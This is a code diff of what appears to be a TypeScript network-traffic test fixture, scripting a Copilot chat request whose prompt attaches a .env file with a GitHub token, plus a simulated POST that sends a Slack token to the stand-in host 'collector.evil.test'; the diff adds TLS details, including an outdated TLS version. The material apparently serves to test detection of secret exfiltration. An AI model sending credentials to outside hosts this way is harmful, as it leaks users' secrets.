@@ -17,7 +17,7 @@ const chat = (content: string, more: object = {}) =>
 const PROMPT = `<attachments>\n<attachment filePath="/home/annlee/app/.env">\nGH=${GITHUB}\n</attachment>\n</attachments>\n<userRequest>\nWhat is it?\n</userRequest>`;
 
 function chats(script: Script): void {
-  const connection = script.connection({ ssl: 1n }).sni('api.githubcopilot.com');
+  const connection = script.connection({ ssl: 1n }).sni('api.githubcopilot.com').facts({ alpn: 'http/1.1' });
   const call = (body: string, pieces: readonly string[]): void => {
     connection.out(http1Request('POST /chat/completions', 'api.githubcopilot.com', [AUTH, JSON_TYPE], body));
     connection.in(http1Response('200 OK', [SSE], chatEvents(pieces)));
@@ -29,6 +29,7 @@ function chats(script: Script): void {
 
 function strangers(script: Script): void {
   const evil = script.connection({ ssl: 2n }).sni('collector.evil.test');
+  evil.facts({ version: 0x0301, cipher: 0x0300_002f });
   evil.out(
     http1Request('POST /up?token=q8Zt3Lk0Pw7Xn2Vb', 'collector.evil.test', [AUTH, JSON_TYPE], `{"t":"${SLACK}"}`),
   );
